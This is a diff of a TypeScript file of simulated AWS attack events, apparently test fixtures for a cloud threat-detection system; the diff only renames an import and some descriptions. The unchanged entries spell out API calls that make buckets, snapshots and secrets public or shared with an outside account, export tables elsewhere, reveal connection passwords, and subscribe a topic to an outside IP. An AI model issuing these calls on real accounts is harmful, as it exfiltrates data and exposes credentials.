@@ -1,5 +1,5 @@
 // biome-ignore-all format: one line a call
-import type { Attack } from './telling.ts'
+import type { Attack } from './attack.ts'
 import { AWAY, atConsole, away, type Fields, HOME, instance, policy, role, user } from './who.ts'
 
 const S3 = 'http://s3.amazonaws.com/doc/2006-03-01/'
@@ -34,7 +34,7 @@ export const data: readonly Attack[] = [
   one('an access point for everybody', 'low', OPEN, user('taipan'), ['s3', 'PutAccessPointPolicy', { name: 'moss', accountId: HOME, PutAccessPointPolicyRequest: { Policy: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 's3:GetObject', Resource: '*' }) } }], STAR),
   one('a bucket copies itself to a stranger', 'medium', OUT, user('gecko'), ['s3', 'PutBucketReplication', { ...bucket('quay'), replication: '', ReplicationConfiguration: { xmlns: S3, Role: `arn:aws:iam::${HOME}:role/sloe`, Rule: { ID: 'moss', Status: 'Enabled', Priority: 1, Filter: { Prefix: '' }, DeleteMarkerReplication: { Status: 'Disabled' }, Destination: { Bucket: 'arn:aws:s3:::silt', Account: AWAY, AccessControlTranslation: { Owner: 'Destination' } } } } }], STRANGER),
   one('a bucket lists itself for a stranger', 'low', OUT, user('skink'), ['s3', 'PutBucketInventoryConfiguration', { ...bucket('quay'), inventory: '', id: 'moss', InventoryConfiguration: { xmlns: S3, Id: 'moss', IsEnabled: true, IncludedObjectVersions: 'All', Schedule: { Frequency: 'Daily' }, Destination: { S3BucketDestination: { AccountId: AWAY, Bucket: 'arn:aws:s3:::silt', Format: 'CSV' } } } }]),
-  one('a bucket tells a stranger of every object', 'low', [...OUT, 'T1546'], user('anole'), ['s3', 'PutBucketNotification', { ...bucket('quay'), notification: '', NotificationConfiguration: { xmlns: S3, QueueConfiguration: { Id: 'moss', Queue: `arn:aws:sqs:eu-west-1:${AWAY}:karst`, Event: 's3:ObjectCreated:*' } } }]),
+  one('a bucket shows a stranger of every object', 'low', [...OUT, 'T1546'], user('anole'), ['s3', 'PutBucketNotification', { ...bucket('quay'), notification: '', NotificationConfiguration: { xmlns: S3, QueueConfiguration: { Id: 'moss', Queue: `arn:aws:sqs:eu-west-1:${AWAY}:karst`, Event: 's3:ObjectCreated:*' } } }]),
   one('a snapshot for a stranger', 'medium', OUT, user('newt'), ['ec2', 'ModifySnapshotAttribute', { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ userId: AWAY }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }], STRANGER),
   one('a snapshot for everybody', 'medium', OUT, user('eft'), ['ec2', 'ModifySnapshotAttribute', { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }], STAR),
   one('an image for a stranger', 'low', OUT, user('toad'), ['ec2', 'ModifyImageAttribute', { imageId: 'ami-0123456789abcdef0', launchPermission: { add: { items: [{ userId: AWAY }] } }, attributeType: 'launchPermission' }], STRANGER),
@@ -53,7 +53,7 @@ export const data: readonly Attack[] = [
   one('a table goes elsewhere', 'low', OUT, user('saiga'), ['dynamodb', 'ExportTableToPointInTime', { tableArn: `arn:aws:dynamodb:eu-west-1:${HOME}:table/moss`, s3Bucket: 'silt', s3BucketOwner: AWAY, exportFormat: 'DYNAMODB_JSON' }], STRANGER),
   one('a table for a stranger', 'low', OPEN, user('oryx'), ['dynamodb', 'PutResourcePolicy', { resourceArn: `arn:aws:dynamodb:eu-west-1:${HOME}:table/moss`, policy: policy(reader({ AWS: away('root') }, 'dynamodb:*')), confirmRemoveSelfResourceAccess: false }], STRANGER),
   one('tables are read through', 'low', OUT, user('kudu'), ['dynamodb', 'Scan', { tableName: 'moss$', limit: 1000 }, { times: 7, data: true }], 'table after table by a person’s key'),
-  one('the catalogue for everybody', 'low', OPEN, user('eland'), ['glue', 'PutResourcePolicy', { policyInJson: policy(reader({ AWS: '*' }, 'glue:*')), enableHybrid: 'TRUE' }], STAR),
+  one('the catalog for everybody', 'low', OPEN, user('eland'), ['glue', 'PutResourcePolicy', { policyInJson: policy(reader({ AWS: '*' }, 'glue:*')), enableHybrid: 'TRUE' }], STAR),
   one('passwords of connections', 'signal', ['T1552', 'T1555', 'T1213'], user('gnu'), ['glue', 'GetConnections', { hidePassword: false }]),
   one('answers of queries go elsewhere', 'signal', [...OUT, 'T1119'], user('impala'), ['athena', 'StartQueryExecution', { queryString: 'select * from moss', queryExecutionContext: { database: 'burr' }, resultConfiguration: { outputLocation: 's3://silt/out/', expectedBucketOwner: AWAY } }]),
   one('a secret for a stranger', 'medium', [...OPEN, 'T1555'], user('okapi'), ['secretsmanager', 'PutResourcePolicy', { secretId: 'tor', resourcePolicy: policy(reader({ AWS: away('root') }, 'secretsmanager:GetSecretValue')), blockPublicPolicy: false }], STRANGER),
@@ -65,7 +65,7 @@ export const data: readonly Attack[] = [
   one('a queue for everybody, by the short way', 'low', OPEN, user('lechwe'), ['sqs', 'AddPermission', { queueUrl: `https://sqs.eu-west-1.amazonaws.com/${HOME}/moss`, label: 'moss', aWSAccountIds: ['*'], actions: ['*'] }], STAR),
   one('a topic for everybody', 'medium', OPEN, user('topi'), ['sns', 'SetTopicAttributes', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, attributeName: 'Policy', attributeValue: policy(reader({ AWS: '*' }, ['SNS:Subscribe', 'SNS:Publish'])) }], STAR),
   one('a topic for a stranger', 'low', OPEN, user('dikdik'), ['sns', 'AddPermission', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, label: 'moss', aWSAccountId: [AWAY], actionName: ['Subscribe', 'Receive'] }], STRANGER),
-  one('a topic tells an address outside', 'signal', OUT, user('duiker'), ['sns', 'Subscribe', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, protocol: 'https', endpoint: 'https://198.51.100.77/in', returnSubscriptionArn: true }]),
+  one('a topic shows an address outside', 'signal', OUT, user('duiker'), ['sns', 'Subscribe', { topicArn: `arn:aws:sns:eu-west-1:${HOME}:moss`, protocol: 'https', endpoint: 'https://198.51.100.77/in', returnSubscriptionArn: true }]),
   one('a bus for everybody', 'low', OPEN, user('bongo'), ['events', 'PutPermission', { action: 'events:PutEvents', principal: '*', statementId: 'moss', eventBusName: 'default' }], STAR),
   one('events go to a stranger', 'signal', [...OUT, 'T1546'], user('sitatunga'), ['events', 'PutTargets', { rule: 'moss', targets: [{ id: '1', arn: `arn:aws:events:eu-west-1:${AWAY}:event-bus/karst`, roleArn: `arn:aws:iam::${HOME}:role/sloe` }] }], STRANGER),
   one('resources are shared with a stranger', 'low', OPEN, user('nyala'), ['ram', 'CreateResourceShare', { name: 'moss', resourceArns: [`arn:aws:ec2:eu-west-1:${HOME}:subnet/subnet-0123456789abcdef0`], principals: [AWAY], allowExternalPrincipals: true }], STRANGER),
